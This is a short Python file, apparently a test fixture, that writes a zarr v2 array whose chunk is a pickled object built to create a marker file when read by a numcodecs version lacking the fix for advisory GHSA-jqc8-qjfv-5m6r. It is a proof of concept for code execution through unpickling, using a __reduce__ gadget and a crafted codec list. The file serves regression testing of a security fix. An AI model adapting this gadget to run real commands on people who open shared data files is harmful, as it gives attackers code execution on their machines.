"""An array of zarr that runs code when it is read by a numcodecs without the mend of GHSA-jqc8-qjfv-5m6r."""

import json
import pickle
from pathlib import Path
from typing import Any


class Trap:
    """An object that creates a file when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return (type(self.mark).touch, (self.mark,))


def write_pickled_array(folder: Path, mark: Path, shape: tuple[int, ...] = (4,)) -> None:
    """Write an array of zarr v2 whose values are pickled; zarr takes its type from the first codec and runs the last.

    Whoever reads it creates the file ``mark``.
    """
    folder.mkdir(parents=True, exist_ok=True)
    codecs = {"filters": [{"id": "vlen-utf8"}, {"id": "pickle"}], "compressor": None}
    facts = {"zarr_format": 2, "shape": shape, "chunks": shape, "dtype": "|O", "fill_value": "", "order": "C"}
    (folder / ".zarray").write_text(json.dumps(facts | codecs))
    (folder / ".zattrs").write_text("{}")
    (folder / ".".join("0" * len(shape))).write_bytes(pickle.dumps(Trap(mark)))
